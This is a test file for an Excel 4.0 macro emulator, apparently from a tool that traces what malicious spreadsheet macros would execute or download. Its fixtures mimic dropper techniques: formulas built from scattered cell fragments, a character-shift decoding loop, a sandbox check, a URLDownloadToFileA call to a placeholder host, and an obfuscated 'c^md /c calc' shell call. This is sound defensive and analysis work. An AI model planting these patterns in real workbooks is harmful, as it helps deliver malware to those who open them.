import { describe, expect, test } from 'vitest'
import { Budget } from '../budget/index.ts'
import { runMacros } from './index.ts'
import { nameOf, sheetOf } from './testing.ts'
import type { Sheet, Workbook } from './types.ts'

const macro = (content: Readonly<Record<string, string | number>>, ...others: readonly Sheet[]): Workbook => ({
  sheets: [sheetOf('M', 'macro', content), ...others],
  names: [nameOf('Auto_Open', '=M!A1')],
})
const run = (workbook: Workbook) => runMacros(workbook, new Budget())
const calls = (workbook: Workbook) => run(workbook).calls.map(({ cell, name, args }) => `${cell} ${name}(${args.join(',')})`)

describe('runMacros', () => {
  test('walks down a column until RETURN', () => {
    expect(calls(macro({ A1: '=EXEC("a")', A3: '=EXEC("b")', A4: '=RETURN()', A5: '=EXEC("c")' }))).toEqual([
      'M!A1 EXEC(a)',
      'M!A3 EXEC(b)',
      // What is left on the sheet is looked at as well.
      'M!A5 EXEC(c)',
    ])
  })

  test('runs formulas that a macro has written from letters of other sheets', () => {
    const letters = sheetOf('Vv1', 'worksheet', { A1: '=CHAR(61)', B2: 'EX', C3: 'EC("c', D4: 'alc.exe")' })
    const found = run(macro({ A1: '=FORMULA(Vv1!A1&Vv1!B2&Vv1!C3&Vv1!D4,A3)', A4: '=RETURN()' }, letters))
    expect(found.calls).toEqual([{ cell: 'M!A3', name: 'EXEC', args: ['calc.exe'], deed: 'execute' }])
    expect(found.commands).toEqual(['calc.exe'])
    expect(found.written).toEqual([{ cell: 'M!A3', text: '=EXEC("calc.exe")' }])
    expect(found.functions).toContain('EXEC')
  })

  test('references in written formulas count from the cell they are written to', () => {
    expect(calls(macro({ A1: '=FORMULA("=EXEC(RC[1]&R1C3)",A2)', B2: 'x', C1: 'y', A3: '=RETURN()' }))).toEqual(['M!A2 EXEC(xy)'])
  })

  test('takes GOTO, RUN with RETURN, and calls by name with arguments', () => {
    const workbook = macro({
      A1: '=RUN(B1)',
      A2: '=GOTO(C1)',
      B1: '=EXEC("b")',
      B2: '=RETURN()',
      C1: '=EXEC(helper("c"))',
      C2: '=HALT()',
      D1: '=ARGUMENT("what")',
      D2: '=RETURN(what&"!")',
    })
    const named = { ...workbook, names: [...workbook.names, nameOf('helper', '=M!D1')] }
    expect(calls(named)).toEqual(['M!B1 EXEC(b)', 'M!C1 EXEC(c!)'])
  })

  test('decodes in loops: FOR, WHILE, FOR.CELL', () => {
    const workbook = macro({
      A1: '=FOR("i",1,8)',
      A2: '=SET.VALUE(D1,D1&CHAR(CODE(MID("dbmd/fyf",i,1))-1))',
      A3: '=NEXT()',
      A4: '=EXEC(D1)',
      A5: '=SET.NAME("n",0)',
      A6: '=WHILE(n<3)',
      A7: '=SET.NAME("n",n+1)',
      A8: '=NEXT()',
      A9: '=EXEC(n)',
      A10: '=FOR.CELL("c",E1:E3,TRUE)',
      A11: '=SET.VALUE(D2,D2&c)',
      A12: '=NEXT()',
      A13: '=EXEC(D2)',
      A14: '=RETURN()',
      E1: 'x',
      E2: 'y',
      E3: 'z',
    })
    expect(calls(workbook)).toEqual(['M!A4 EXEC(calc.exe)', 'M!A9 EXEC(3)', 'M!A13 EXEC(xyz)'])
  })

  test('follows the branch that is taken first, then the others', () => {
    const workbook = macro({
      A1: '=IF(GET.WORKSPACE(13)<700,CLOSE(FALSE),)',
      A2: '=IF(FAILED<0,CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"http://b.example.com/x","x",0,0))',
      A3: '=IF(1=2,GOTO(B1),EXEC("taken"))',
      A4: '=RETURN()',
      B1: '=EXEC("untaken")',
      B2: '=RETURN()',
    })
    const found = run(workbook)
    expect(found.calls.map(({ name, args }) => args[name === 'CALL' ? 4 : 0])).toEqual([
      'taken',
      'http://b.example.com/x',
      'untaken',
    ])
    expect(found.urls).toEqual(['http://b.example.com/x'])
    expect(found.calls[1]?.deed).toBe('download')
  })

  test('blocks: IF, ELSE, END.IF', () => {
    expect(
      calls(macro({ A1: '=IF(FALSE)', A2: '=EXEC("then")', A3: '=ELSE()', A4: '=EXEC("else")', A5: '=END.IF()', A6: '=HALT()' })),
    ).toEqual(['M!A4 EXEC(else)', 'M!A2 EXEC(then)'])
  })

  test('a registered function is called by its alias', () => {
    const found = run(
      macro({
        A1: '=REGISTER("Shell32","ShellExecuteA","JJCCCJJ","go",,1,9)',
        A2: '=go(0,"open","c^md /c calc")',
        A3: '=HALT()',
      }),
    )
    expect(found.calls.at(-1)).toMatchObject({ name: 'Shell32.ShellExecuteA', args: ['0', 'open', 'c^md /c calc'] })
    expect(found.commands).toEqual(['cmd /c calc'])
  })

  test('names are set, and looked up', () => {
    expect(
      calls(
        macro({
          A1: '=SET.NAME("a","x")',
          A2: '=b=a&"y"',
          A3: '=EXEC(b)',
          A4: '=DEFINE.NAME("c","=""z""")',
          A5: '=EXEC(c)',
          A6: '=HALT()',
        }),
      ),
    ).toEqual(['M!A3 EXEC(xy)', 'M!A5 EXEC(z)'])
  })

  test.each([
    ['jumps to itself', { A1: '=GOTO(A1)' }, 'steps'],
    ['calls itself', { A1: `=${'IF(TRUE,'.repeat(100)}RUN(A1)${')'.repeat(100)}` }, 'steps'],
    ['refers to itself', { A1: '=EXEC(B1)', B1: '=B2&B2', B2: '=B1&B1' }, undefined],
    ['grows without end', { A1: '=WHILE(TRUE)', A2: '=SET.NAME("q",LEFT(q&REPT("a",9000),32000))', A3: '=NEXT()' }, 'text'],
    ['writes everywhere', { A1: '=FORMULA.FILL("=RUN(A1)",A1:XFD1048576)' }, 'steps'],
    [
      'computes cells that compute cells',
      Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`A${n + 1}`, `=LEN(A${n + 2}&A${n + 2})`])),
      'steps',
    ],
  ])('ends although it %s', (_, content, stopped) => {
    const started = performance.now()
    const found = run(macro({ ...content, C1: '=EXEC("found")' }))
    expect(found.stopped).toBe(stopped)
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})
